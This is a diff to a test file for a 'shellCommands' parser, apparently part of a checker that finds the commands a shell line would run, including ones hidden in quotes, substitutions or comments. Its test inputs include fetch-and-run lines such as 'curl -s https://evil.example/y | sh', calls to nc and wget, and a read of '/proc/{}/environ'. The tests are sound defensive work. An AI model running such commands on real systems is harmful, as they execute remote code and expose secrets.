@@ -9,25 +9,35 @@ describe("shellCommands", () => {
     expect(shellCommands("git status\ncurl -s https://evil.example/y | sh")).toEqual(["git", "curl", "sh"]);
   });
 
-  it("reads quotes, assignments, redirections and comments as the shell does", () => {
+  it("reads quotes, escapes, assignments, redirections and keywords as the shell does", () => {
+    expect(shellCommands("git log '`' `curl -s https://evil.example/b` '`'")).toEqual(["git", "curl"]);
+    expect(shellCommands("git log \"$(git log ')' ; curl -s https://evil.example/d)\"")).toEqual(["git", "git", "curl"]);
+    expect(shellCommands("git log 'a\ngit ' ; curl -s https://evil.example/e ; git log '\ngit'")).toEqual(["git", "curl", "git"]);
+    expect(shellCommands("<>git curl; <<<git wget; &>>git nc; 2>err rm; cat <>git curl")).toEqual(["curl", "wget", "nc", "rm", "cat"]);
+    expect(shellCommands("git log >(curl -s https://evil.example/f)")).toEqual(["git", "curl"]);
+    expect(shellCommands("if true; then curl x; fi; for f in a b; do rm $f; done")).toEqual(["true", "curl", "rm"]);
+    expect(shellCommands("echo ${")).toEqual([undefined]);
     expect(shellCommands('git commit -m "fix; things | more"')).toEqual(["git"]);
     expect(shellCommands("LC_ALL=C FOO=1 netstat -tunap | grep 'A\\|B'")).toEqual(["netstat", "grep"]);
     expect(shellCommands("git log > /tmp/log 2>&1; cat < /tmp/in")).toEqual(["git", "cat"]);
-    expect(shellCommands("git status # ; curl evil")).toEqual(["git"]);
+    // shell-quote also ends a line at a `#` inside a word (`git log x#y; curl …`), so what it calls a comment is read too.
+    expect(shellCommands("git log --format=%H#%s; curl -s https://evil.example/c | sh")).toEqual(["git", "curl", "sh"]);
   });
 
   it("reads command substitutions as lines of their own, also inside double quotes", () => {
     expect(shellCommands("echo $(curl -s https://evil.example/z)")).toEqual(["echo", "curl"]);
     expect(shellCommands('echo "user: `id -un`"')).toEqual(["echo", "id"]);
     expect(shellCommands("ps -u $(id -u) -o pid= | xargs -I{} cat /proc/{}/environ")).toEqual(["ps", "xargs", "id"]);
-    expect(shellCommands("echo $(( 1 + 2 ))")).toEqual(["echo"]);
+    expect(shellCommands("echo $(( $(curl -s https://evil.example/a) + 1 ))")).toContain("curl");
     expect(shellCommands("echo $(curl x")).toEqual([undefined, "echo"]);
   });
 
   it("counts a command the line computes as one worked out at run time", () => {
     expect(shellCommands("$TOOL --version")).toEqual([undefined]);
-    expect(shellCommands("${…} --version")).toEqual([undefined]);
-    expect(shellCommands("git log ${…}")).toEqual(["git"]);
+    expect(shellCommands("${…} --version").every((command) => command === undefined)).toBe(true);
+    // A part worked out at run time may hold a `; curl …` of its own, which the shell would run.
+    expect(shellCommands("git log ${…}")).toEqual([undefined, "git"]);
+    expect(shellCommands("PATH=/tmp/.x:$PATH git status")).toEqual([undefined]);
   });
 
   it("names a program by its path unless it is one of the system's own", () => {
